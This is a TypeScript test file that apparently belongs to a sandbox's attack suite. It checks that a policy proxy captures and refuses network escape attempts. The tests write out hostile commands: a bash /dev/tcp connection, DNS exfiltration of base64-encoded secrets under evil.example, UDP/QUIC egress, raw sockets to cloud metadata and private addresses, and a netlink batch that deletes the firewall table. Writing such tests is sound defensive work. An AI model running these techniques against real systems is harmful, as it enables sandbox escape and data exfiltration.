// ATTACKS.md §4.2 under transparent capture (networks "proxy" and "public", ffi/init/capture.c):
// programs that ignore HTTP_PROXY — curl --noproxy, bash /dev/tcp, raw Python sockets, DNS
// queries of their own — either reach an allowed destination through the policy proxy or are
// refused by it (and the refusal is recorded); none has a route of its own. Test servers listen
// on the host's loopback under names a test resolver controls; the resolver records every name
// that would have left the host.
import { assert, assertEquals, assertMatch } from "../../assert.ts";
import { type Attack, attackSuite, keyValues, python } from "./attack_table.ts";
import { echoServer, recordingResolver, recordingTcpServer } from "../proxy_fixture.ts";

const LOOKUP_DENIED = "is not in the allowlist: the sandbox's resolver answered NXDOMAIN, and " +
  "the name was never looked up outside";

/** A raw DNS query (id 0x1234, RD) for `name`, type A, as a Python bytes literal. */
function dnsQuery(name: string): string {
  const labels = name.split(".").map((l) => `\\x${l.length.toString(16).padStart(2, "0")}${l}`);
  return `b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00${
    labels.join("")
  }\\x00\\x00\\x01\\x00\\x01"`;
}

/** N1/N3 under capture: every way around HTTP_PROXY ends at the policy proxy. */
function ignoreTheProxy(): Attack {
  let http: ReturnType<typeof echoServer> | undefined;
  let tcp: ReturnType<typeof recordingTcpServer> | undefined;
  const { queries, resolve } = recordingResolver({ "allowed.test": ["127.0.0.1"] });
  return {
    id: "N1-capture",
    name: "ignore the proxy: direct connections are captured and decided by the policy",
    needs: ["python3", "curl", "bash", "getent"],
    prepare: () => {
      http = echoServer();
      tcp = recordingTcpServer();
      return `${http.port} ${tcp.port}`;
    },
    teardown: async () => {
      tcp?.close();
      await http?.close();
    },
    policy: (ports) => ({
      network: "proxy",
      allowDomains: ports.split(" ").map((port) => `allowed.test:${port}`),
    }),
    options: { proxy: { resolve, allowPrivateAddresses: true } },
    script: `set -- $1
getent hosts allowed.test; echo getent=$?
curl -sS -m 5 --noproxy '*' http://allowed.test:$1/noproxy; echo curl=$?
env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy curl -sS -m 5 http://allowed.test:$1/noenv; echo noenv=$?
bash -c "exec 3<>/dev/tcp/198.51.100.7/80; echo -e 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; head -c 60 <&3"; echo
${
      python(`
http_port, tcp_port = int(sys.argv[1]), int(sys.argv[2])
s = socket.create_connection(("allowed.test", tcp_port), timeout=5)
s.sendall(b"raw-bytes-from-python\\n")
print("raw=" + s.recv(100).decode().strip())
attempt("denied_name", lambda: socket.create_connection(("denied.test", 80), timeout=5))
attempt("other_port", lambda: socket.create_connection(("allowed.test", 9999), timeout=5).recv(100))
s = socket.create_connection(("203.0.113.9", 80), timeout=5)
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
print("literal=" + s.recv(200).decode().splitlines()[0])`).replace(`"$1"`, `"$1" "$2"`)
    }`,
    expect: (r, _ws, ports) => {
      const [httpPort, tcpPort] = ports.split(" ");
      const out = keyValues(r.stdout);
      assertMatch(r.stdout, /^198\.18\.0\.\d+\s+allowed\.test$/m);
      assertEquals(out.getent, "0");
      assertMatch(r.stdout, new RegExp(`host=allowed.test:${httpPort} path=/noproxy\\ncurl=0`));
      assertMatch(r.stdout, new RegExp(`host=allowed.test:${httpPort} path=/noenv\\nnoenv=0`));
      assertEquals(out.raw, "tcp-ok");
      assert(tcp!.received().includes("raw-bytes-from-python"), "the raw bytes reached the server");
      // A name that is not allowed has no address at all: the lookup fails (EAI_NONAME).
      assertEquals(out.denied_name, "gaierror-2");
      // A connection the policy refuses is accepted inside, then given the proxy's 403.
      assertEquals(out.literal, "HTTP/1.1 403 Blocked by Coop sandbox policy");
      assertMatch(r.stdout, /^HTTP\/1\.1 403 Blocked by Coop sandbox policy/m);
      assertEquals(out.other_port, "OK");
      assertEquals(r.proxyDenials, [
        { host: "198.51.100.7", port: 80, reason: "is not in the allowlist" },
        { host: "denied.test", port: 0, reason: LOOKUP_DENIED },
        {
          host: "allowed.test",
          port: 9999,
          reason: "uses port 9999, which the allowlist does not allow for this host",
        },
        { host: "203.0.113.9", port: 80, reason: "is not in the allowlist" },
      ]);
      assertEquals([...new Set(queries)], ["allowed.test"], "only the allowed name was resolved");
      assertEquals(tcpPort.length > 0, true);
    },
  };
}

/** N4 under capture: names that are not allowed never leave the host, however they are asked. */
function dnsExfiltration(): Attack {
  const { queries, resolve } = recordingResolver({});
  return {
    id: "N4-capture",
    name: "DNS exfiltration through the stub resolver",
    needs: ["python3", "getent"],
    policy: { network: "proxy", allowDomains: ["allowed.test"] },
    options: { proxy: { resolve } },
    script: `cat /etc/resolv.conf
getent hosts c2VjcmV0.evil.example; echo getent=$?
getent ahosts "$(echo secret | base64).evil.example"; echo base64=$?
${
      python(`
def ask(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(${dnsQuery("c2xlYw.evil.example")}, (server, 53))
    return s.recv(512)
answer = ask("127.0.0.1", "c2xlYw.evil.example")
print("rcode=%d answers=%d" % (answer[3] & 15, answer[7]))
attempt("upstream", lambda: ask("8.8.8.8", "c2xlYw.evil.example"))
attempt("tcp53", lambda: socket.create_connection(("8.8.8.8", 53), timeout=5).recv(1))`)
    }`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertMatch(r.stdout, /^nameserver 127\.0\.0\.1$/m);
      assertEquals(out.getent, "2", "NXDOMAIN");
      assertEquals(out.base64, "2", "a name the stub cannot parse gets no answer either");
      assertEquals(out.rcode, "3 answers=0", "NXDOMAIN from the stub itself");
      // UDP to anywhere but the stub is dropped in the sandbox's output hook.
      assertEquals(out.upstream, "EPERM");
      // DNS over TCP is just another captured connection, refused by the policy.
      assertEquals(out.tcp53, "OK");
      assertEquals(queries, [], "no name left the host");
      assertEquals(r.proxyDenials.map((d) => `${d.host}:${d.port}`), [
        "c2vjcmv0.evil.example:0",
        "c2xlyw.evil.example:0",
        "8.8.8.8:53",
      ]);
    },
  };
}

/** N16 under capture: UDP and ICMP have no way out; IPv6 has no route. */
function udpEgress(): Attack {
  return {
    id: "N16-capture",
    name: "UDP / QUIC egress",
    needs: ["python3"],
    policy: { network: "proxy", allowDomains: ["allowed.test"] },
    script: python(`
attempt("v4", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
attempt("quic", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 443)))
attempt("v6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:4860:4860::8888", 53)))
def connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("1.1.1.1", 443))
    s.send(b"x")
attempt("connected", connected)
attempt("tcp6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=5))`),
    expect: (r) => {
      assertEquals(keyValues(r.stdout), {
        v4: "EPERM",
        quic: "EPERM",
        v6: "ENETUNREACH",
        connected: "EPERM",
        tcp6: "ENETUNREACH",
      });
      assertEquals(r.proxyDenials, []);
    },
  };
}

/** N18 under capture: the command cannot remove the route or the nf_tables table. */
function captureTampering(): Attack {
  const { resolve } = recordingResolver({ "allowed.test": ["127.0.0.1"] });
  let http: ReturnType<typeof echoServer> | undefined;
  return {
    id: "N18-capture",
    name: "route and nf_tables tampering",
    needs: ["python3", "ip", "curl"],
    prepare: () => String((http = echoServer()).port),
    teardown: () => http?.close(),
    policy: (port) => ({ network: "proxy", allowDomains: [`allowed.test:${port}`] }),
    options: { proxy: { resolve, allowPrivateAddresses: true } },
    script: `ip route del default; echo route=$?
ip link set lo down; echo link=$?
${
      python(`
import struct
def nla(kind, value):
    size = 4 + len(value)
    return struct.pack("=HH", size, kind) + value + b"\\0" * (-size % 4)
def msg(kind, flags, seq, payload, family=2, res=0):
    body = struct.pack("=BBH", family, 0, socket.htons(res)) + payload
    return struct.pack("=IHHII", 16 + len(body), kind, flags, seq, 0) + body
# batch { DELTABLE ip coop }: what "nft delete table ip coop" sends
batch = msg(0x10, 1, 1, b"", 0, 10) + msg((10 << 8) | 2, 1 | 4, 2, nla(1, b"coop\\0")) + msg(0x11, 1, 3, b"", 0, 10)
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
s.send(batch)
data, errors, at = s.recv(4096), [], 0
while at + 16 <= len(data):
    size, kind = struct.unpack_from("=IH", data, at)
    if kind == 2:
        errors.append(errno.errorcode.get(-struct.unpack_from("=i", data, at + 16)[0], "0"))
    at += (size + 3) & ~3
print("nft_delete=" + ",".join(errors))`)
    }
curl -sS -m 5 --noproxy '*' http://allowed.test:$1/after; echo after=$?`,
    expect: (r, _ws, port) => {
      const out = keyValues(r.stdout);
      assertEquals([out.route, out.link], ["2", "2"]);
      assertEquals(r.stderr.match(/RTNETLINK answers: Operation not permitted/g)?.length, 2);
      assertEquals(out.nft_delete, "EPERM");
      assertMatch(r.stdout, new RegExp(`host=allowed.test:${port} path=/after\\nafter=0`));
    },
  };
}

/** Network "public": any public address and port; nothing private, loopback or link-local. */
function publicMode(): Attack {
  let http: ReturnType<typeof echoServer> | undefined;
  let tcp: ReturnType<typeof recordingTcpServer> | undefined;
  const { queries, resolve } = recordingResolver({
    "pub.test": ["127.0.0.1"], // stands for an internet host: the hook below makes it public
    "ten.test": ["10.0.0.7"],
    "lo.test": ["127.0.0.2"],
  });
  return {
    id: "N-public",
    name: 'network "public": the internet, never the LAN, loopback or metadata',
    needs: ["python3", "curl"],
    prepare: () => {
      http = echoServer();
      tcp = recordingTcpServer();
      return `${http.port} ${tcp.port}`;
    },
    teardown: async () => {
      tcp?.close();
      await http?.close();
    },
    policy: { network: "public" },
    options: { proxy: { resolve, publicAddresses: ["127.0.0.1"] } },
    script: `set -- $1
curl -sS -m 5 --noproxy '*' http://pub.test:$1/captured; echo captured=$?
curl -sS -m 5 http://pub.test:$1/proxied; echo proxied=$?
getent hosts anything.example; echo getent=$?
${
      python(`
http_port, tcp_port = int(sys.argv[1]), int(sys.argv[2])
s = socket.create_connection(("pub.test", tcp_port), timeout=5)
s.sendall(b"any-port\\n")
print("raw=" + s.recv(100).decode().strip())
def refused(host):
    s = socket.create_connection((host, 80), timeout=5)
    s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
    return s.recv(200).decode().splitlines()[0]
for label, host in [("ten", "ten.test"), ("lo", "lo.test"), ("literal", "10.0.0.7"),
                    ("metadata", "169.254.169.254"), ("cgnat", "100.64.0.1")]:
    print(label + "=" + refused(host))`).replace(`"$1"`, `"$1" "$2"`)
    }`,
    expect: (r, _ws, ports) => {
      const [httpPort] = ports.split(" ");
      const out = keyValues(r.stdout);
      assertMatch(r.stdout, new RegExp(`host=pub.test:${httpPort} path=/captured\\ncaptured=0`));
      assertMatch(r.stdout, new RegExp(`host=pub.test:${httpPort} path=/proxied\\nproxied=0`));
      assertMatch(r.stdout, /^198\.18\.0\.\d+\s+anything\.example$/m);
      assertEquals(out.raw, "tcp-ok", "any port of a public address");
      const refusal = "HTTP/1.1 403 Blocked by Coop sandbox policy";
      for (const label of ["ten", "lo", "literal", "metadata", "cgnat"]) {
        assertEquals(out[label], refusal, label);
      }
      const reasons = Object.fromEntries(r.proxyDenials.map((d) => [d.host, d.reason]));
      assertMatch(reasons["ten.test"], /10\.0\.0\.7, private .*network "public" reaches public/);
      assertMatch(reasons["lo.test"], /127\.0\.0\.2, loopback/);
      assertMatch(reasons["10.0.0.7"], /private/);
      assertMatch(reasons["169.254.169.254"], /link-local|metadata/);
      assertMatch(reasons["100.64.0.1"], /carrier-grade NAT|100\.64\.0\.0\/10/);
      assertEquals(r.proxyDenials.length, 5);
      assert(!queries.includes("anything.example"), "a lookup resolves nothing until a connect");
    },
  };
}

/** N9 under capture: loopback is captured too; only an owner's IP-literal entry reaches the
 * host's loopback service, and only on its port. */
function loopbackConsent(): Attack {
  let http: ReturnType<typeof echoServer> | undefined;
  return {
    id: "N9-capture",
    name: "host loopback: reached only through an IP-literal entry, by any program",
    needs: ["python3", "curl"],
    prepare: () => String((http = echoServer()).port),
    teardown: () => http?.close(),
    policy: (port) => ({ network: "proxy", allowDomains: [`127.0.0.1:${port}`] }),
    script: `curl -sS -m 5 --noproxy '*' http://127.0.0.1:$1/consented; echo consented=$?
${
      python(`
s = socket.create_connection(("127.0.0.1", int(sys.argv[1]) + 1), timeout=5)
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
print("other_port=" + s.recv(200).decode().splitlines()[0])
s = socket.create_connection(("127.0.0.1", 3129), timeout=5)
print("listener_direct=%r" % s.recv(10))`)
    }`,
    expect: (r, _ws, port) => {
      const out = keyValues(r.stdout);
      assertMatch(r.stdout, new RegExp(`host=127.0.0.1:${port} path=/consented\nconsented=0`));
      assertEquals(out.other_port, "HTTP/1.1 403 Blocked by Coop sandbox policy");
      assertEquals(out.listener_direct, "b''", "a direct connection to the listener asks nothing");
      assertEquals(r.proxyDenials, [{
        host: "127.0.0.1",
        port: Number(port) + 1,
        reason: `uses port ${Number(port) + 1}, which the allowlist does not allow for this host`,
      }]);
    },
  };
}

attackSuite("§4.2 capture", [
  loopbackConsent(),
  ignoreTheProxy(),
  dnsExfiltration(),
  udpEgress(),
  captureTampering(),
  publicMode(),
]);
